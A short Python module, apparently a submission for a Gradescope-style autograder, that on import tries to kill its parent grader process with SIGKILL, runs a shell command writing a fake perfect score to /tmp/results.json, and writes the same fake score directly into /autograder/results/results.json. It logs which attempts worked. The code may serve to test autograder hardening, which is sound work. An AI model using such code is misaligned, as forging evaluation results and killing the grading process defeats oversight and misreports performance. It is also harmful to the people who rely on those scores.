"""Tries to kill the grader, spawn a shell, and write results.json where Gradescope reads it."""
import os
import signal
import subprocess

ATTEMPTS = {}
for name, attempt in {
    "kill parent": lambda: os.kill(os.getppid(), signal.SIGKILL),
    "spawn": lambda: subprocess.run(["sh", "-c", "echo '{\"score\": 100}' > /tmp/results.json"]),
    "write results": lambda: open("/autograder/results/results.json", "w").write('{"score": 100}'),
}.items():
    try:
        attempt()
        ATTEMPTS[name] = "worked"
    except Exception as exc:
        ATTEMPTS[name] = repr(exc)


def __getattr__(name):
    raise NotImplementedError(name)
